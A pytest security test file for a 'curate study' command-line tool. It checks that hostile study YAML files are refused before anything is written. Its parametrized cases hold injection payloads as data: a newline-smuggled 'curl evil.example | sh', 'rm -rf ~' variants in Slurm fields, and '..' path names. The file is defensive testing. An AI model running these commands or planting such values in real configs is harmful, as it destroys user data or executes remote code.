"""Hostile study files: names that are paths, shell in Slurm fields, prepare lines that are not store
preparation, and outputs aimed at folders a study did not make.

A study file is shared like a recipe; running `curate study plan|run` on one must not delete, overwrite or
execute anything the file's reader did not ask for. Each refusal is one `error:` line naming the file and
field, before anything is written. Run: python -m pytest -q tests/test_security_study.py
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from curate.errors import ConfigError, InputError
from curate.study import build_plan
from curate.study.runner import run_study
from curate.study.executors import sbatch_script
from tests.helpers import ROOT

BASE = """\
name: sec
output: {out}
prepare:
  - tasks add countdown --size 30 --seed 0
  - generate --backend synthetic --n 2 --problems "source = 'countdown'" --no-progress
  - curate verify --workers 1
conditions:
  - {{name: {condition}, recipe: countdown-toy}}
models:
  - {{name: {model}, path: tiny}}
train: {{config: debug}}
eval: {{suite: countdown, steps: [2], backend: hf, limit: 1}}
executor:
  kind: slurm
  slurm: {{partition: {partition}, sbatch: {sbatch}}}
"""


def study(tmp_path: Path, out: Path | None = None, **kw) -> Path:
    fields = {"condition": "verified", "model": "tiny", "partition": "gpu", "sbatch": "['--qos=high']", **kw}
    p = tmp_path / "s.yaml"
    p.write_text(BASE.format(out=out or tmp_path / "out", **fields))
    return p


def prepare(tmp_path: Path, *lines: str) -> Path:
    p = study(tmp_path)
    text = p.read_text()
    head, rest = text.split("prepare:\n", 1)
    rest = rest.split("conditions:", 1)[1]
    p.write_text(head + "prepare:\n" + "".join(f"  - {line!r}\n" for line in lines) + "conditions:" + rest)
    return p


def tree(d: Path) -> list[str]:
    return sorted(str(p.relative_to(d)) for p in d.rglob("*")) if d.exists() else []


def test_a_plain_study_plans_and_writes_one_line_sbatch_options(tmp_path):
    plan = build_plan(study(tmp_path))
    script = sbatch_script(plan, plan.nodes["mix/verified"])
    assert "#SBATCH --partition=gpu\n#SBATCH --qos=high\n" in script
    assert [n.fields["args"][0] for n in plan.nodes.values() if n.kind == "prepare"] == ["tasks", "generate", "verify"]


@pytest.mark.parametrize("field, value", [
    ("model", ".."), ("model", "."), ("condition", ".."), ("condition", ".hidden"), ("model", "--store"),
    ("condition", "'a/b'"), ("model", "x" * 101),
])
def test_names_that_are_paths_or_options_are_refused(tmp_path, field, value):
    with pytest.raises(ConfigError, match=f"{'models' if field == 'model' else 'conditions'}.0.name"):
        build_plan(study(tmp_path, **{field: value}))


@pytest.mark.parametrize("field, value, needle", [
    ("partition", '"gpu\\ncurl evil.example | sh"', "executor.slurm.partition"),
    ("partition", '"gpu; rm -rf ~"', "executor.slurm.partition"),
    ("sbatch", '["--qos=high\\nrm -rf ~"]', "executor.slurm.sbatch"),
    ("sbatch", '["rm -rf ~"]', "executor.slurm.sbatch"),
])
def test_slurm_values_cannot_add_shell_lines(tmp_path, field, value, needle):
    with pytest.raises(ConfigError, match=needle):
        build_plan(study(tmp_path, **{field: value}))


@pytest.mark.parametrize("line, needle", [
    ("mix countdown-toy --out ~ --overwrite", "'mix' cannot prepare a store"),
    ("train debug --set output_dir=/tmp/x", "'train' cannot prepare a store"),
    ("study run other.yaml", "'study' cannot prepare a store"),
    ("tasks list", "'tasks list' cannot prepare a store"),
    ("generate --store /elsewhere", "--store"),
    ("import data.jsonl --store=/elsewhere", "--store"),
    ("verify -s/elsewhere", "-s/elsewhere"),
    ("import data.jsonl --", "'--'"),
    ("generate --problems 'unclosed", "cannot split"),
])
def test_prepare_lines_only_fill_the_study_store(tmp_path, line, needle):
    with pytest.raises(ConfigError, match="prepare.0") as e:
        build_plan(prepare(tmp_path, line))
    assert needle in e.value.message


def test_a_hostile_study_is_refused_from_the_cli_with_one_line(tmp_path):
    p = prepare(tmp_path, "mix countdown-toy --out ~ --overwrite")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(tmp_path / "home")}
    (tmp_path / "home").mkdir()
    r = subprocess.run([sys.executable, "-m", "curate", "study", "run", str(p)], capture_output=True, text=True,
                       timeout=120, cwd=tmp_path, env=env)
    lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    assert r.returncode != 0 and lines[0].startswith("error:") and "prepare.0" in lines[0] and len(lines) <= 2, r.stderr
    assert "Traceback" not in r.stderr and tree(tmp_path / "home") == [] and not (tmp_path / "out").exists()


def test_output_into_a_folder_no_study_made_is_refused(tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("key")
    before = tree(home)
    with pytest.raises(InputError, match="no study wrote"):
        run_study(study(tmp_path, out=home), dry_run=True, echo=lambda s: None)
    assert tree(home) == before
    link = tmp_path / "link"
    link.symlink_to(home)
    with pytest.raises(InputError, match="no study wrote"):  # the output is resolved: a link is its target
        run_study(study(tmp_path, out=link), dry_run=True, echo=lambda s: None)
    assert tree(home) == before


def test_output_that_is_new_empty_or_a_study_folder_is_fine(tmp_path):
    out = tmp_path / "out"
    p = study(tmp_path, out=out)
    res = run_study(p, executor="local", dry_run=True, echo=lambda s: None)  # new: created
    assert res["dry_run"] and (out / ".study").is_dir()
    run_study(p, executor="local", dry_run=True, echo=lambda s: None)  # a study's own folder: rerun
    empty = tmp_path / "empty"
    empty.mkdir()
    run_study(study(tmp_path, out=empty), executor="local", dry_run=True, echo=lambda s: None)
    (tmp_path / "file").write_text("x")
    with pytest.raises(InputError, match="not a folder"):
        run_study(study(tmp_path, out=tmp_path / "file"), dry_run=True, echo=lambda s: None)


def test_study_plan_shows_the_prepare_commands(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "300"}
    r = subprocess.run([sys.executable, "-m", "curate", "study", "plan", str(study(tmp_path))], capture_output=True,
                       text=True, timeout=120, cwd=tmp_path, env=env)
    assert r.returncode == 0, r.stderr
    assert "prepare: commands that fill the store" in r.stdout
    assert "curate tasks add countdown --size 30 --seed 0 --store" in r.stdout and "curate verify --workers 1" in r.stdout


def test_a_store_that_is_no_curate_store_is_refused(tmp_path):
    home = tmp_path / "home"
    (home / "notes").mkdir(parents=True)
    p = study(tmp_path)
    p.write_text(p.read_text().replace("prepare:", f"store: {home}\nprepare:", 1))
    with pytest.raises(InputError, match="no curate store"):
        run_study(p, executor="local", dry_run=True, echo=lambda s: None)
    assert tree(home) == ["notes"] and not (tmp_path / "out").exists()
